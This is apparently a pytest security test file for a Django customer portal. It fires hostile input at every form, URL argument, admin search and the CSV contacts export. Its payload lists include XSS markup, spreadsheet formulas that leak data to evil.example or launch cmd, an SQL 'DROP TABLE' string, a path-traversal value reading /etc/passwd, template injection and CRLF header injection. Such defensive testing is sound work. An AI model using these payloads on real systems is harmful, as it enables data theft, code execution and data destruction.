"""Hostile text through every form and every URL argument: NUL, 10,000 characters, right-to-left
overrides, spreadsheet formulas, markup, template syntax. The answer is a field error or a refusal,
never a 500; nothing is stored past a field's limit (the receipts' copies included); stored text is
never served as markup; a contacts export never hands a spreadsheet a formula.

Forms are read from the pages' HTML (tests/security/htmlforms.py), so a new form is swept too."""

import csv
import io
import re
from functools import reduce
from operator import or_
from urllib.parse import quote

import pytest
from allauth.account.models import EmailAddress
from django.apps import apps
from django.db import models
from django.db.models import Q
from django.db.models.functions import Length
from django.test import Client
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from accounts.models import Customer, CustomField
from accounts.services import CUSTOM_TEXT_MAX_LENGTH
from portal.services import site_settings_update
from purchases.models import Receipt

from .conftest import signed_in
from .sweep import admin_routes, own_path, portal_routes, record_figures
from .test_mass_assignment import discovered_forms

pytestmark = pytest.mark.django_db

MARKUP = '<script>alert("pwned")</script><img src=x onerror=alert(2)>'
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
PAYLOADS = {
    "NUL": "Ada\x00Lovelace",
    "10,000 characters": "A" * 10_000,
    "right-to-left override": "Invoice \u202egnp.exe",
    "formula": FORMULAS[0],
    "markup": MARKUP,
    "CRLF": "Ada\r\nBcc: everyone@example.com",
}
# Drawn by hypothesis besides its own text.
MORE_PAYLOADS = [
    "{{ request.user.password }}{% debug %}",
    "Z\u0338\u0322\u0327\u031b" * 600,
    "Ada \u2067Lovelace\u2069",
    "\U0001f469\u200d\U0001f4bb" * 400,
    "' OR 1=1; DROP TABLE accounts_customer; --",
    "../../../../etc/passwd",
    *FORMULAS[1:],
]
_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_UNSAFE_SINGLE_LINE = re.compile(r"[\n\r\t]")
# Every model a request can write: the project's apps and allauth's email addresses.
STORED_APPS = ("accounts", "billing", "purchases", "portal", "account")


@pytest.fixture
def custom_fields(db):
    for position, (key, kind, choices) in enumerate(
        [("nickname", "text", ""), ("seats", "number", ""), ("birthday", "date", ""), ("plan", "choice", "A\nB")]
    ):
        CustomField.objects.create(
            key=key,
            label=key.title(),
            type=kind,
            choices=choices,
            visible_to_customer=True,
            editable_by_customer=True,
            position=position,
        )


def _limited_fields(model):
    for f in model._meta.concrete_fields:
        if isinstance(f, models.CharField) and f.max_length:
            yield f.name, f.max_length
        for validator in getattr(f, "validators", []):
            if validator.__class__.__name__ == "MaxLengthValidator" and not isinstance(f, models.CharField):
                yield f.name, validator.limit_value


def assert_stored_within_limits():
    """No row of any model a request can write holds text past its field's limit, or NUL."""
    for label in STORED_APPS:
        for model in apps.get_app_config(label).get_models():
            limited = dict(_limited_fields(model))
            if not limited:
                continue
            lengths = {f"_len_{name}": Length(name) for name in limited}
            too_long = reduce(or_, [Q(**{f"_len_{name}__gt": limit}) for name, limit in limited.items()])
            rows = list(model._default_manager.annotate(**lengths).filter(too_long).values("pk", *limited))
            assert rows == [], f"{model._meta.label}: stored past the limit: {rows[:1]!r:.300}"
    for customer in Customer.objects.all():
        for f in Customer._meta.concrete_fields:
            value = getattr(customer, f.attname)
            if isinstance(value, str):
                assert not _UNSAFE.search(value), (f.name, value[:80])
                if f.name != "bio":
                    assert not _UNSAFE_SINGLE_LINE.search(value), (f.name, value[:80])
        for key, value in (customer.custom_field_values or {}).items():
            assert len(value) <= CUSTOM_TEXT_MAX_LENGTH and not _UNSAFE.search(value), (key, value[:80])
    for receipt in Receipt.objects.all():
        for f in Receipt._meta.concrete_fields:
            value = getattr(receipt, f.attname)
            if isinstance(value, str):
                assert not _UNSAFE.search(value), (f.name, value[:80])
    for address in EmailAddress.objects.all():
        assert not _UNSAFE.search(address.email), address.email[:80]


def assert_pages_render_without_markup(client, me):
    """Every page showing the customer's details answers, and shows stored markup only as text."""
    paths = [
        "/",
        "/settings/contact/",
        "/settings/social/",
        "/directory/",
        "/purchases/",
        me.receipt.get_absolute_url(),
    ]
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200, path
        assert "<script>alert(" not in response.content.decode(), path
    pdf = client.get(me.receipt.get_absolute_url() + "pdf/")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"


def hostile_submission(form, value: str) -> dict:
    data = form.submission()
    for f in form.text_fields():
        data[f.name] = value
    for f in form.fields:
        if f.kind == "select":
            data[f.name] = value  # a choice the list does not offer
    return data


def unique_targets(forms):
    """One form per target: the same view reached from two pages (or by two visitors) is driven once."""
    seen, kept = set(), []
    for who, form in forms:
        if form.target not in seen:
            seen.add(form.target)
            kept.append((who, form))
    return kept


def test_every_form_answers_every_hostile_payload_with_a_field_error_never_a_500(world, custom_fields):
    me, _victim = world
    Customer.objects.filter(pk=me.customer.pk).update(directory_opt_in=True)
    site_settings_update(data={"receipt_mode": "frozen"})  # shows the "corrected copy" form as well
    forms = unique_targets(discovered_forms(me))
    site_settings_update(data={"receipt_mode": "resync"})  # contact edits rewrite the receipts' copies
    customer = signed_in(Client(raise_request_exception=False), me.customer.user)
    tried = server_errors = 0
    for who, form in forms:
        for name, payload in PAYLOADS.items():
            browser = customer if who == "customer" else Client(raise_request_exception=False)
            response = browser.post(form.target, hostile_submission(form, payload))
            tried += 1
            if response.status_code >= 500:
                server_errors += 1
            assert response.status_code < 500, (who, form.target, name)
        assert_stored_within_limits()
    assert_pages_render_without_markup(signed_in(Client(), me.customer.user), me)
    record_figures("hostile forms", forms=len(forms), payloads=len(PAYLOADS), inputs=tried, server_errors=server_errors)


_text = st.one_of(
    st.sampled_from(list(PAYLOADS.values()) + MORE_PAYLOADS),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=400),
    st.builds(
        lambda part, times: part * times,
        st.sampled_from(["\x00", "\u202e", "<b>", "=", "ß", "\n"]),
        st.integers(1, 300),
    ),
)


def test_hypothesis_drives_every_form_with_hostile_text(world, custom_fields):
    me, _victim = world
    site_settings_update(data={"receipt_mode": "frozen"})  # shows the "corrected copy" form as well
    forms = unique_targets(discovered_forms(me))
    site_settings_update(data={"receipt_mode": "resync"})
    customer = signed_in(Client(), me.customer.user)
    saved = {"inputs": 0}

    @hypothesis_settings(
        max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow], database=None, derandomize=True
    )
    @given(st.data())
    def drive(data):
        who, form = data.draw(st.sampled_from(forms), label="form")
        values = form.submission()
        for f in form.text_fields():
            values[f.name] = data.draw(_text, label=f.name)
        browser = customer if who == "customer" else Client()
        response = browser.post(form.target, values)
        saved["inputs"] += 1
        assert response.status_code < 500, (who, form.target)
        assert_stored_within_limits()

    drive()
    assert_pages_render_without_markup(signed_in(Client(), me.customer.user), me)
    record_figures("hostile hypothesis", forms=len(forms), inputs=saved["inputs"], server_errors=0)


URL_PAYLOADS = {
    "NUL": "R\x00-1",
    "4,000 characters": "A" * 4_000,
    "right-to-left override and percent": "R-\u202e1%",
    "markup": MARKUP,
}


def anonymous_reaches(route) -> bool:
    from .test_access import NOT_OBJECT_ROUTES, PUBLIC

    public = {pattern for pattern, _method in PUBLIC}
    return route.pattern in public or route.name in {"accounts:hub", "accounts:unsubscribe", *NOT_OBJECT_ROUTES}


def test_every_url_argument_and_query_answers_hostile_text_without_a_500(world):
    """Hostile values in every path argument (receipt numbers, ids, tokens) and in the usual query keys."""
    me, _victim = world
    browsers = {
        "customer": signed_in(Client(raise_request_exception=False), me.customer.user),
        "anonymous": Client(raise_request_exception=False),
    }
    failures, tried = [], 0
    for route in portal_routes():
        for who, browser in browsers.items():
            if who == "anonymous" and not anonymous_reaches(route):
                continue  # sent to sign in before the view reads anything
            for name, payload in URL_PAYLOADS.items():
                if route.args:
                    path = route.path(**{arg: quote(payload, safe="") for arg in route.args})
                    requests = [("get", path), ("post", path)]
                else:
                    query = "&".join(f"{key}={quote(payload, safe='')}" for key in ("q", "page", "next", "o"))
                    requests = [("get", f"{own_path(route, me)}?{query}")]
                for method, path in requests:
                    response = getattr(browser, method)(path)
                    tried += 1
                    if response.status_code >= 500:
                        failures.append((who, method, route.pattern, name))
    record_figures("hostile urls", inputs=tried, server_errors=len(failures))
    assert failures == [], "5xx: " + "; ".join(map(str, failures))


ADMIN_PAYLOADS = ["NUL", "4,000 characters", "markup"]


def test_admin_lists_answer_hostile_searches_and_orderings_without_a_500(world, creator_client):
    creator_client.raise_request_exception = False
    failures, tried = [], 0
    for route in admin_routes():
        if not route.name.endswith("_changelist"):
            continue
        queries = [(name, f"q={quote(URL_PAYLOADS[name], safe='')}") for name in ADMIN_PAYLOADS]  # the search
        queries.append(("NUL", "o=1%00&p=%00"))  # the ordering and the page
        for name, query in queries:
            response = creator_client.get(f"{route.path()}?{query}")
            tried += 1
            if response.status_code >= 500:
                failures.append((route.pattern, query.split("=")[0], name))
    record_figures("hostile admin searches", inputs=tried, server_errors=len(failures))
    assert failures == [], "5xx: " + "; ".join(map(str, failures))


# --- spreadsheet formulas in the contacts export -------------------------------------------------

_DANGEROUS_START = tuple("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[\d ().-]+")


def test_a_contacts_export_never_hands_a_spreadsheet_a_formula(world, creator_client):
    """A customer's own text (name, address) opened by the creator in a spreadsheet must stay text.

    Values a spreadsheet would evaluate (= + - @ tab CR first) are exported escaped (OWASP CSV
    injection: prefixed with an apostrophe), phone numbers such as +44 20 7946 0958 excepted.
    """
    me, _victim = world
    customer_browser = signed_in(Client(), me.customer.user)
    form = customer_browser.get("/settings/contact/").context["form"]
    data = {name: form[name].value() or "" for name in form.fields}
    data.update(full_name=FORMULAS[0], address_line1=FORMULAS[1], city=FORMULAS[3], region=FORMULAS[2])
    assert customer_browser.post("/settings/contact/", data).status_code == 302  # the contact form takes them
    export_form = creator_client.get("/admin/accounts/customer/export/").context["form"]
    chosen = {name: "on" for name in export_form.fields if name.startswith("customerresource_")}

    response = creator_client.post("/admin/accounts/customer/export/", {"format": "0", "resource": "0", **chosen})

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    formulas = [c for c in cells if c.startswith(_DANGEROUS_START) and not _PLAIN_NUMBER.fullmatch(c)]
    record_figures("csv formulas", cells=len(cells), formulas_exported=len(formulas))
    assert formulas == []
